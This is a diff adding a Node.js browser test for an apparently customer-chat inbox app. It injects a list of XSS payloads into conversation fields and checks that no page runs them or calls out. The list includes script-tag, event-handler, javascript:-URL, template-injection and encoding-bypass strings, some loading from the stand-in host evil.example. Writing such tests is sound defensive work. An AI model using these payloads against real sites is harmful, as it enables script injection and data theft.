@@ -1,0 +1,104 @@
+// Everything that outsiders control, filled with what would run or call home if it were ever more than text: every page
+// is then opened in a browser behind a proxy that writes down all it asks for. Nothing runs, nothing leaves.
+// XSS_PAYLOADS names a JSON file with more of them (a list of strings).
+
+import assert from "node:assert/strict";
+import { readFile } from "node:fs/promises";
+import { test } from "node:test";
+import { openHouse, until } from "./lib/house.mjs";
+import { launch, person, shot, signInByLink } from "./lib/browser.mjs";
+import { openProxy, openRelay } from "./lib/outside.mjs";
+
+const CALL = "window.ran=(window.ran||0)+1";
+const AWAY = "//evil.example/x";
+const OWN = [
+  `<script>${CALL}</script>`, `<script src=${AWAY}></script>`, `<img src=${AWAY} onerror="${CALL}">`, `<img/src/onerror=${CALL}>`,
+  `<svg onload=${CALL}>`, `<svg><script>${CALL}</script></svg>`, `<svg><use href="${AWAY}#x"/></svg>`, `<body onload=${CALL}>`,
+  `"><script>${CALL}</script>`, `'><img src=x onerror=${CALL}>`, `</textarea><script>${CALL}</script>`, `</title><script>${CALL}</script>`,
+  `</option></select><img src=x onerror=${CALL}>`, `--><script>${CALL}</script><!--`, `]]><script>${CALL}</script>`,
+  `" autofocus onfocus="${CALL}" x="`, `' onmouseover='${CALL}`, `x onclick=${CALL}`, `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `java\tscript:${CALL}`,
+  `data:text/html,<script>${CALL}</script>`, `<a href="javascript:${CALL}">click</a>`, `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
+  `<iframe src=${AWAY}></iframe>`, `<object data=${AWAY}></object>`, `<embed src=${AWAY}>`, `<link rel=stylesheet href=${AWAY}>`, `<link rel=prefetch href=${AWAY}>`,
+  `<meta http-equiv=refresh content="0;url=${AWAY}">`, `<base href=${AWAY}>`, `<form action=${AWAY}><input name=csrf></form>`, `<style>@import '${AWAY}';</style>`,
+  `<div style="background:url(${AWAY})">`, `<video src=${AWAY} onerror=${CALL}></video>`, `<audio src=x onerror=${CALL}>`, `<details open ontoggle=${CALL}>`,
+  `<marquee onstart=${CALL}>`, `<input autofocus onfocus=${CALL}>`, `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`, `<template><script>${CALL}</script></template>`,
+  `![x](${AWAY})`, `[x](javascript:${CALL})`, `[a]: ${AWAY}\n![x][a]`, `{{constructor.constructor('${CALL}')()}}`, `\${${CALL}}`, `#{${CALL}}`, `<%= ${CALL} %>`, `{% raw %}<script>${CALL}</script>`,
+  `\u003cscript\u003e${CALL}\u003c/script\u003e`, `&lt;script&gt;${CALL}&lt;/script&gt;`, `%3Cscript%3E${CALL}%3C/script%3E`, `＜script＞${CALL}＜/script＞`, `<scr<script>ipt>${CALL}</scr</script>ipt>`,
+  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<a href=x onmouseover=${CALL}>`, `<isindex action=javascript:${CALL}>`, `<x contenteditable onblur=${CALL}>`,
+  `\u2028<script>${CALL}</script>`, `\u0000<script>${CALL}</script>`.replace("\u0000", ""), `"/><script>${CALL}</script>`, `</script><script>${CALL}</script>`,
+];
+
+test("0 executions and 0 requests out, whatever outsiders write in any field", { timeout: 240_000 }, async () => {
+  const more = process.env.XSS_PAYLOADS ? JSON.parse(await readFile(process.env.XSS_PAYLOADS, "utf8")) : [];
+  const payloads = [...OWN, ...more];
+  const relay = await openRelay();
+  const house = await openHouse({ config: relay.config });
+  const proxy = await openProxy(house.url);
+  const browser = await launch({ proxy: { server: proxy.url, bypass: "<-loopback>" } });
+  try {
+    for (const [n, text] of payloads.entries()) {
+      const id = `c_${n}`;
+      const said = { direction: "from_user", author: { id: text.slice(0, 100), name: text.slice(0, 200) } };
+      await relay.tell(house, id, "chat_opened", { page_url: text.slice(0, 500) });
+      // Every third is answered, held, or resolved and rated: different pages show them.
+      const words = [`How long does shipping to Canada take? ${text}`, `I want a refund ${text}`, text][n % 3];
+      await relay.tell(house, id, "message_sent", { ...said, message_id: `m_${n}`, text: words });
+      await relay.tell(house, id, "message_sent", { direction: "from_owner", private: true, author: said.author, message_id: `n_${n}`, text });
+      if (n % 3 === 2) {
+        await relay.tell(house, id, "message_sent", { direction: "from_owner", author: said.author, message_id: `o_${n}`, text });
+        await relay.tell(house, id, "csat_submitted", { survey_id: `s_${n}`, score: 1, comment: text });
+        await relay.tell(house, id, "chat_resolved", {});
+      }
+    }
+    const owner = await person(browser, house);
+    await owner.page.addInitScript(() => (window.ran = 0));
+    const ran = [];
+    const look = async (path) => {
+      await owner.go(path);
+      await owner.page.locator("#main").waitFor();
+      // What is folded away is opened; what would run when touched is touched.
+      await owner.page.evaluate(() => {
+        for (const one of document.querySelectorAll("details")) one.open = true;
+        for (const one of document.querySelectorAll("main *")) {
+          for (const kind of ["mouseover", "focus", "error", "toggle"]) one.dispatchEvent(new Event(kind, { bubbles: false }));
+        }
+      });
+      const found = await owner.page.evaluate(() => [window.ran, document.querySelectorAll("main :is(script, iframe, object, embed, img, base, video, audio, style, link, [onerror], [onload], [href^='javascript:' i])").length]);
+      if (found[0] || found[1]) ran.push(`${path}: ran ${found[0]}, elements ${found[1]}`);
+    };
+    await signInByLink(owner, house);
+    await until("all are heard", async () => {
+      const open = await owner.page.evaluate(async () =>
+        (await (await fetch("/v1/conversations?relay=outside&limit=100&state=gathering")).json()).items.length);
+      return open === 0;
+    }, 120_000);
+    await owner.page.waitForTimeout(3_000);
+    await look("/");
+    await shot(owner.page, "payloads-inbox");
+    let next = "/conversations";
+    const chats = [];
+    while (next) {
+      await look(next);
+      chats.push(...(await owner.page.locator("a.row").evaluateAll((all) => all.map((one) => one.getAttribute("href")))));
+      const link = owner.page.locator("a[rel=next]");
+      next = (await link.count()) ? await link.getAttribute("href") : null;
+    }
+    assert.ok(chats.length >= payloads.length, `${chats.length} chats are listed`);
+    for (const chat of chats.filter((_, n) => n % 2 === 0)) await look(chat);
+    for (const text of payloads) {
+      await look(`/knowledge?q=${encodeURIComponent(text.slice(0, 1_000))}`);
+      await look(`/conversations?q=${encodeURIComponent(text.slice(0, 150))}`);
+    }
+    for (const path of ["/reports/comparison", "/dead-letters", "/settings/audit", "/settings/topics", "/settings/replies"]) await look(path);
+    assert.deepEqual(ran, []);
+    assert.deepEqual(proxy.strangers(), [], "no request leaves for elsewhere");
+    assert.ok(proxy.asked.length > chats.length, "the proxy has seen the browser");
+    owner.clean();
+    console.log(`# ${payloads.length} payloads, ${proxy.asked.length} requests seen, 0 for strangers`);
+  } finally {
+    await browser.close();
+    await proxy.close();
+    await house.close();
+    await relay.close();
+  }
+});
